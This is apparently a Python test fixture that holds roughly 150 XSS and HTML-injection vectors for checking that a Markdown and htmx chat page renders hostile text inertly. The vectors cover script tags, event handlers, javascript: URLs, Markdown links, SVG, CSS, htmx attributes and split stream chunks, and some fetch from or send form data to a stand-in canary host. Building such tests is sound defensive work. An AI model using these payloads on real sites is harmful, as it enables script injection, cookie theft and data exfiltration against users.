"""Hostile text: XSS and HTML-injection vectors after the families of OWASP's XSS filter evasion cheat sheet, plus
Markdown tricks and htmx-specific ones (attributes htmx would act on if they ever reached the page live).

Every vector, if it ever ran, would do one of: open a dialog (`alert`/`confirm`/`prompt`), set a global whose
name holds "xss", or ask for a resource at CANARY (a host the page never uses). The suite watches for all
three, for Content-Security-Policy violations, and for live elements in the DOM.
"""

from __future__ import annotations

CANARY = "http://xss.canary.invalid"
B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
B64_SVG = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"  # <svg onload=alert(1)>
JS_ENTITIES_DEC = "".join(f"&#{ord(c)};" for c in "javascript:alert(1)")
JS_ENTITIES_PAD = "".join(f"&#{ord(c):07d}" for c in "javascript:alert(1)")
JS_ENTITIES_HEX = "".join(f"&#x{ord(c):X}" for c in "javascript:alert(1)")
JS_PERCENT = "".join(f"%{ord(c):02x}" for c in "javascript") + ":alert(1)"

VECTORS: list[tuple[str, str]] = [
    # -- script tags in every case and encoding --------------------------------------------------------------
    ("script", "<script>alert(1)</script>"),
    ("script", "<SCRIPT>alert('XSS')</SCRIPT>"),
    ("script", "<ScRiPt>window.xss_case=1</sCrIpT>"),
    ("script", f"<script src={CANARY}/xss.js></script>"),
    ("script", f'<SCRIPT/XSS SRC="{CANARY}/xss.js"></SCRIPT>'),
    ("script", f"<SCRIPT SRC=//xss.canary.invalid/.j>"),
    ("script", "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>"),
    ("script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script", "</script><script>alert(1)</script>"),
    ("script", "\"><script>alert(document.domain)</script>"),
    ("script", "'><script>window.xss_quote=1</script>"),
    ("script", "<script\x20type=\"text/javascript\">alert(1);</script>"),
    ("script", "<script\nsrc=//xss.canary.invalid/nl.js></script>"),
    ("script", "<script>/*</script><svg/onload=alert(1)>*/</script>"),
    ("script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("script", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    ("script", "%3Cscript%3Ealert(1)%3C/script%3E"),
    ("script", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    ("script", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("script", "＜script＞alert(1)＜/script＞"),
    ("script", "<!--<script>-->alert(1)<!--</script>-->"),
    ("script", "<script>eval(atob('YWxlcnQoMSk='))</script>"),
    ("script", "<template><script>alert(1)</script></template>"),
    ("script", "<noscript><p title=\"</noscript><script>alert(1)</script>\">"),
    # -- event-handler attributes ---------------------------------------------------------------------------
    ("handler", "<img src=x onerror=alert(1)>"),
    ("handler", "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>"),
    ("handler", "<img/src/onerror=alert(1)>"),
    ("handler", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
    ("handler", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>"),
    ("handler", "<img \"\"\"><script>alert(\"XSS\")</script>\">"),
    ("handler", "<IMG SRC=# onmouseover=\"alert('xxs')\">"),
    ("handler", "<svg onload=alert(1)>"),
    ("handler", "<svg/onload=window.xss_svg=1>"),
    ("handler", "<body onload=alert(1)>"),
    ("handler", "<div onmouseover=\"alert(1)\">hover me</div>"),
    ("handler", "<input autofocus onfocus=alert(1)>"),
    ("handler", "<select autofocus onfocus=alert(1)></select>"),
    ("handler", "<textarea autofocus onfocus=alert(1)></textarea>"),
    ("handler", "<details open ontoggle=alert(1)>"),
    ("handler", "<video><source onerror=alert(1)></video>"),
    ("handler", "<audio src=x onerror=alert(1)>"),
    ("handler", "<marquee onstart=alert(1)>x</marquee>"),
    ("handler", "<iframe onload=alert(1)></iframe>"),
    ("handler", "<a onmouseover=\"alert(document.cookie)\">xxs link</a>"),
    ("handler", "<style onload=alert(1)></style>"),
    ("handler", "<object data=x onerror=alert(1)></object>"),
    ("handler", "<img src=x onerror\x0b=alert(1)>"),
    ("handler", "<img src=x one\x00rror=alert(1)>"),
    ("handler", "<x onclick=alert(1) style=display:block;position:fixed;top:0;left:0;width:100%;height:100%>"),
    ("handler", "<button autofocus onfocusin=alert(1)>x</button>"),
    # -- javascript:, data:, vbscript: URLs (raw HTML) ------------------------------------------------------
    ("url", "<a href=\"javascript:alert(1)\">click</a>"),
    ("url", "<IMG SRC=\"javascript:alert('XSS');\">"),
    ("url", "<IMG SRC=JaVaScRiPt:alert('XSS')>"),
    ("url", f"<IMG SRC={JS_ENTITIES_DEC}>"),
    ("url", f"<IMG SRC={JS_ENTITIES_PAD}>"),
    ("url", f"<IMG SRC={JS_ENTITIES_HEX}>"),
    ("url", "<IMG SRC=\"jav\tascript:alert('XSS');\">"),
    ("url", "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">"),
    ("url", "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">"),
    ("url", "<IMG SRC=\" &#14;  javascript:alert('XSS');\">"),
    ("url", f"<a href=\"data:text/html;base64,{B64_SCRIPT}\">data</a>"),
    ("url", "<a href='vbscript:msgbox(\"XSS\")'>vb</a>"),
    ("url", "<iframe src=\"javascript:alert(1)\"></iframe>"),
    ("url", f"<iframe src=\"data:text/html;base64,{B64_SCRIPT}\"></iframe>"),
    ("url", "<a href=\"  javascript:alert(1)\">spaces</a>"),
    ("url", "<a href=\"java\x00script:alert(1)\">nul</a>"),
    ("url", f"<object data=\"data:image/svg+xml;base64,{B64_SVG}\"></object>"),
    ("url", f"<embed src=\"data:image/svg+xml;base64,{B64_SVG}\">"),
    # -- the same, as Markdown links and images -------------------------------------------------------------
    ("markdown", "[click](javascript:alert(1))"),
    ("markdown", "[click](JaVaScRiPt:alert(1))"),
    ("markdown", "[click](&#106;avascript:alert(1))"),
    ("markdown", "[click](javascript&#58;alert(1))"),
    ("markdown", "[click](javascript&colon;alert(1))"),
    ("markdown", "[click](java%0ascript:alert(1))"),
    ("markdown", f"[click]({JS_PERCENT})"),
    ("markdown", f"[click](data:text/html;base64,{B64_SCRIPT})"),
    ("markdown", "[click](vbscript:msgbox(1))"),
    ("markdown", "[click](<javascript:alert(1)>)"),
    ("markdown", "[click](javascript://%0aalert(1))"),
    ("markdown", "[click](\x01javascript:alert(1))"),
    ("markdown", "![img](javascript:alert(1))"),
    ("markdown", f"![img]({CANARY}/tracker.png)"),
    ("markdown", "![img](//xss.canary.invalid/tracker.png)"),
    ("markdown", "![x\"onerror=\"alert(1)](/static/none.png)"),
    ("markdown", "[link](/static/none.png \"title\\\" onmouseover=\\\"alert(1)\")"),
    ("markdown", "[ref][evil]\n\n[evil]: javascript:alert(1)"),
    ("markdown", "<javascript:alert(1)>"),
    ("markdown", f"<{CANARY}/\"onmouseover=\"alert(1)>"),
    ("markdown", "[click](#\"onclick=\"alert(1))"),
    ("markdown", "[a](https://ok.example/\"><script>alert(1)</script>)"),
    ("markdown", "`<img src=x onerror=alert(1)>` and ``<script>alert(1)</script>``"),
    ("markdown", "```html\n</code></pre><script>alert(1)</script>\n```"),
    ("markdown", "```\"><img src=x onerror=alert(1)>\nx\n```"),
    ("markdown", "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |"),
    ("markdown", "<think><img src=x onerror=alert(1)></think>after the thought"),
    ("markdown", "    <script>alert('indented code')</script>"),
    ("markdown", "*<script>*alert(1)*</script>*"),
    # -- SVG and MathML -------------------------------------------------------------------------------------
    ("svg", "<svg><script>alert(1)</script></svg>"),
    ("svg", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("svg", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a></svg>"),
    ("svg", "<svg><set attributeName=onmouseover to=alert(1)>"),
    ("svg", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>"),
    ("svg", f"<svg><use href=\"data:image/svg+xml;base64,{B64_SVG}#x\"></use></svg>"),
    ("svg", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("svg", "<math href=\"javascript:alert(1)\">CLICKME</math>"),
    ("svg", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>"),
    # -- <base>, <meta refresh>, <form action>, other live elements ------------------------------------------
    ("base", f"<base href=\"{CANARY}/\">"),
    ("base", "<base href=\"javascript:alert(1)//\">"),
    ("meta", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("meta", f"<meta http-equiv=\"refresh\" content=\"0; url={CANARY}/\">"),
    ("meta", f"<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,{B64_SCRIPT}\">"),
    ("meta", "<meta http-equiv=\"Set-Cookie\" content=\"xss=1\">"),
    ("form", f"<form action=\"{CANARY}/steal\"><input name=q value=x><button>go</button></form>"),
    ("form", "<form><button formaction=javascript:alert(1)>X</button></form>"),
    ("form", "<isindex action=\"javascript:alert(1)\" type=submit>"),
    ("form", "<input type=\"image\" src=\"javascript:alert(1)\">"),
    ("form", f"<iframe src=\"{CANARY}/frame\"></iframe>"),
    ("form", "<frameset><frame src=\"javascript:alert(1)\"></frameset>"),
    ("form", f"<a href=\"{CANARY}/\" ping=\"{CANARY}/ping\">ping</a>"),
    ("form", f"<img srcset=\"{CANARY}/x.png 1x\">"),
    ("form", f"<link rel=prefetch href=\"{CANARY}/prefetch\">"),
    # -- CSS expression() and url() -------------------------------------------------------------------------
    ("css", "<div style=\"width: expression(alert(1));\">css</div>"),
    ("css", "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">"),
    ("css", "<div style=\"background-image: url(javascript:alert(1))\">css</div>"),
    ("css", f"<div style=\"background:url({CANARY}/bg.png)\">css</div>"),
    ("css", f"<style>@import '{CANARY}/x.css';</style>"),
    ("css", "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>"),
    ("css", "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>"),
    ("css", f"<link rel=stylesheet href=\"{CANARY}/x.css\">"),
    ("css", "<XSS STYLE=\"behavior: url(xss.htc);\">"),
    ("css", "<div style=\"-moz-binding:url(//xss.canary.invalid/xss.xml#xss)\">css</div>"),
    # -- htmx: attributes it would act on, and out-of-band swaps into the app's own elements ---------------
    ("htmx", f"<div hx-get=\"{CANARY}/hx\" hx-trigger=\"load\">hx</div>"),
    ("htmx", "<div data-hx-get=\"/p/todo\" data-hx-trigger=\"load\" data-hx-target=\"body\">hx</div>"),
    ("htmx", "<button hx-on:click=\"alert(1)\">hx-on</button>"),
    ("htmx", "<div hx-on::load=\"window.xss_hx=1\">hx-on load</div>"),
    ("htmx", "<div id=\"msg-list\" hx-swap-oob=\"true\">replaced the chat</div>"),
    ("htmx", "<form ws-send hx-trigger=\"load\"><input name=action value=todo.add><input name=name value=planted>"
             "</form>"),
    ("htmx", "<div hx-vals='js:{a: alert(1)}' hx-post=\"/logout\" hx-trigger=\"load\">vals</div>"),
    ("htmx", "<div hx-ext=\"ws\" ws-connect=\"ws://xss.canary.invalid/ws\">ws</div>"),
    # -- template and misc ----------------------------------------------------------------------------------
    ("misc", "{{constructor.constructor('alert(1)')()}}"),
    ("misc", "${alert(1)}"),
    ("misc", "<xss id=x tabindex=1 onfocus=alert(1)></xss>"),
    ("misc", "<portal src=\"" + CANARY + "/portal\"></portal>"),
    ("misc", "<img src=\"x` `<script>alert(1)</script>\"` `>"),
    ("misc", "<a href=\"https://ok.example\" target=_blank rel=opener>opener</a>"),
]

# -- HTML split across stream chunks: the harmless start comes first, the dangerous part in a later token ------
SPLIT: list[list[str]] = [
    ["<scr", "ipt>alert(1)</scr", "ipt>"],
    ["<img src=x ", "onerror=alert(1)>"],
    ["[click](java", "script:alert(1))"],
    ["[click](javascript", ":", "alert(1))"],
    ["```\n", "code", "\n```", "<script>alert(1)</script>"],
    ["<", "svg", " ", "onload", "=", "alert(1)", ">"],
    ["`<img src=x", "` <img src=x onerror=alert(1)>"],
    ["![a](", "javascript:alert(1)", ")"],
    ["**bold <a href='", "javascript:alert(1)'>x</a>**"],
    ["&#106;ava", "script:alert(1)"],
]


def marked(index: int, text: str) -> str:
    """A vector behind its marker (text the test finds on the page once the vector was rendered)."""
    return f"XV{index:03d} {text}"


def markers(indices) -> list[str]:
    return [f"XV{i:03d}" for i in indices]
